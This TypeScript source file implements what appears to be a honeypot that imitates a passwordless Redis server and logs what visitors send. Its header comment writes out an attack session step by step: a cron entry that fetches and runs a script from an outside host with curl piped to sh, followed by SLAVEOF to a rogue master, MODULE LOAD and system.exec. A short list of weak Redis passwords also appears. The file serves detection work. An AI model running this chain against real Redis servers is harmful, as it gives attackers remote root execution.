/**
 * Redis without a password, the most harvested service there is.
 *
 *   attacker: *1 $4 INFO
 *   us:       $3254 # Server redis_version:5.0.7 …
 *   attacker: SET x "\n* * * * * curl http://203.0.113.9/x.sh | sh\n"
 *   us:       +OK                                                         → artifact, indicator
 *   attacker: CONFIG SET dir /var/spool/cron · CONFIG SET dbfilename root · SAVE
 *   us:       +OK +OK +OK                                                 → redis.file-write-intent
 *   attacker: SLAVEOF 203.0.113.9 8888 · MODULE LOAD ./exp.so · system.exec "id"
 *   us:       +OK +OK $… uid=0(root)                                      → never dialled; the simulated host runs it
 *
 * The codec cuts bytes into requests, dispatch.ts passes them through Redis's gates, commands/ has a file a theme, and
 * facts/ says what a real Redis 5.0, 6.0 and 7.0 say of themselves.
 */
import { LRUCache } from 'lru-cache'
import { z } from 'zod'
import { evidence } from '../../events/bytes.ts'
import { defineLure } from '../../sensor/lure.ts'
import { TimeSlice } from '../../sensor/time-slice.ts'
import { LimitReached } from '../../sensor/visit.ts'
import { RedisClient, type RedisVisit } from './client.ts'
import { encodeReply, failure, ProtocolError, ReplyTooLarge, type Request, RequestDecoder, RequestTooLarge } from './codec.ts'
import { KeyspaceBudget } from './database.ts'
import { execute, type Outcome } from './dispatch.ts'
import { redisEvents } from './events.ts'
import { Instance, type ServerFacts, serverFacts } from './instance.ts'
import { keepPayloads } from './payload.ts'
import { PROFILE_NAMES, profileOf } from './profiles.ts'

const KEEP_OF_ARGUMENT = 1024 * 1024
const KEEP_OF_REQUEST = 4 * 1024 * 1024
/** Commands of one visit that become events; the rest is counted. */
const LISTED_COMMANDS = 10_000
/** Replies gathered before they are sent, so that a pipeline costs one write. */
const REPLY_BATCH_BYTES = 64 * 1024
/** Sources whose keyspace is remembered. */
const SOURCES = 500

interface Room {
  facts: ServerFacts
  instances: LRUCache<string, Instance>
  budget: KeyspaceBudget
  clientIds: number
}

export default defineLure({
  name: 'redis',
  standsFor: ['Redishoneypot', 'Honeypots'],
  about: 'Redis 5.0.7 without a password',
  profiles: ['standard', 'mini', 'linux'],
  ports: [{ transport: 'tcp', port: 6379 }],
  options: z.strictObject({
    /** Which Redis: an open old one (`vuln5`, `legacy6`), a stock new one (`modern7`), or one with a password (`auth`). */
    profile: z.enum(PROFILE_NAMES).default('vuln5'),
    /** Password of profile `auth`; the others have none unless given. */
    password: z.string().optional(),
    /** Profile `modern7` only: `enable-protected-configs yes` and `enable-module-command yes`. */
    enableProtectedConfigs: z.boolean().default(false),
    enableModuleCommand: z.boolean().default(false),
  }),
  events: redisEvents,

  start({ options, identity, persona, ports }): Room {
    const profile = profileOf(options.profile, {
      protectedConfigs: options.enableProtectedConfigs,
      moduleCommand: options.enableModuleCommand,
    })
    const password = options.password ?? (options.profile === 'auth' ? identity.pick('redis/password', WEAK_PASSWORDS) : '')
    return {
      facts: serverFacts(identity, persona, profile, ports[0]?.declared.port ?? 6379, password),
      instances: new LRUCache({ max: SOURCES, dispose: (instance) => instance.meter.release() }),
      budget: new KeyspaceBudget(),
      clientIds: identity.integer('redis/client-ids', 900, 90_000),
    }
  },

  async serve(visit, context) {
    const { room } = context
    const server = instanceOf(room, visit.source.ip)
    const client = new RedisClient(++room.clientIds, visit, server, context)
    const decoder = new RequestDecoder({
      multibulk: server.facts.profile.release.major >= 7 ? 2 ** 31 - 1 : 1024 * 1024,
      keep: KEEP_OF_ARGUMENT,
      request: KEEP_OF_REQUEST,
    })
    let commands = 0
    try {
      for (;;) {
        const bytes = await visit.read()
        if (!bytes) return
        server.bytesIn += bytes.length
        decoder.push(bytes)
        commands += await answerAll(client, decoder, commands)
        if (client.isClosing || client.isDropped) return
      }
    } catch (error) {
      if (error instanceof RequestTooLarge) throw new LimitReached('request', error.bytes)
      if (error instanceof ReplyTooLarge) throw new LimitReached('reply', error.bytes)
      if (!(error instanceof ProtocolError)) throw error
      visit.record('redis.protocol-error', { message: error.message })
      await visit.write(encodeReply(failure(`ERR Protocol error: ${error.message}`), client.protocol))
    } finally {
      client.leave()
      if (commands > LISTED_COMMANDS) visit.record('redis.uncounted', { commands: commands - LISTED_COMMANDS })
    }
  },
})

/** Passwords that brute-forcers try early. */
const WEAK_PASSWORDS = ['redis', 'redis123', 'foobared', 'admin123', '123456', 'P@ssw0rd']

function instanceOf(room: Room, ip: string): Instance {
  let instance = room.instances.get(ip)
  if (!instance) {
    // Old keyspaces make room for new ones; a source that comes back after long finds what all find at first.
    while (room.budget.isHalfSpent && room.instances.size > 0) room.instances.pop()
    instance = new Instance(room.facts, room.budget)
    room.instances.set(ip, instance)
  }
  return instance
}

/** Answers every whole request that has come, in order; how many there were. */
async function answerAll(client: RedisClient, decoder: RequestDecoder, before: number): Promise<number> {
  const { visit, server } = client
  let replies: Buffer[] = []
  let bytes = 0
  let commands = 0
  const slice = new TimeSlice()
  const flush = async (): Promise<void> => {
    if (bytes) await visit.write(Buffer.concat(replies, bytes))
    server.bytesOut += bytes
    replies = []
    bytes = 0
  }
  try {
    for (;;) {
      // Redis 6 and later trust a stranger with small requests only.
      decoder.guarded = !client.authenticated && server.facts.profile.release.major >= 6
      const request = decoder.next()
      if (!request) return commands
      commands++
      await slice.turn()
      keepPayloads(client, request)
      const outcome = await execute(client, request.args)
      if (before + commands <= LISTED_COMMANDS) recordCommand(visit, client, request, outcome)
      // Since Redis 6 the guard against HTTP also loses the replies that were on their way.
      if (client.isDropped && server.facts.profile.release.major >= 6) replies = []
      const reply = encodeReply(outcome.reply, client.protocol)
      replies.push(reply)
      bytes = replies.length === 1 ? reply.length : bytes + reply.length
      if (client.isClosing || client.isDropped) return commands
      if (bytes > REPLY_BATCH_BYTES) await flush()
    }
  } finally {
    await flush()
  }
}

function recordCommand(visit: RedisVisit, client: RedisClient, { args }: Request, { known, error }: Outcome): void {
  const [name = '', ...rest] = args
  const isSecret = /^(auth|hello)$/i.test(name)
  visit.record('redis.command', {
    name: clip(name),
    // Credentials are in the login event.
    args: isSecret ? [] : rest.slice(0, 32).map(clip),
    argCount: rest.length,
    database: client.database,
    protocol: client.protocol,
    known,
    ...(error ? { error } : {}),
  })
}

function clip(text: string): ReturnType<typeof evidence> {
  return evidence(Buffer.from(text.slice(0, 1024), 'latin1'))
}
